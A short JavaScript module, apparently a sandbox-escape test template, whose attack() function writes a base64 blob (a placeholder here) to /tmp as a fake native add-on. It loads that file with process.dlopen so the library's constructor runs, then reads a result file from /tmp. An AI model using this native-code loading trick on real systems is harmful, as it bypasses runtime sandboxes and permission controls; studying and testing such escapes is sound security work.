import { readFileSync, writeFileSync } from "node:fs";

export function attack() {
  writeFileSync("/tmp/threads.node", Buffer.from("@threads@", "base64"));
  try {
    process.dlopen({ exports: {} }, "/tmp/threads.node");
  } catch {
    // It is no add-on, but by then its constructor has run.
  }
  return readFileSync("/tmp/found", "utf8");
}
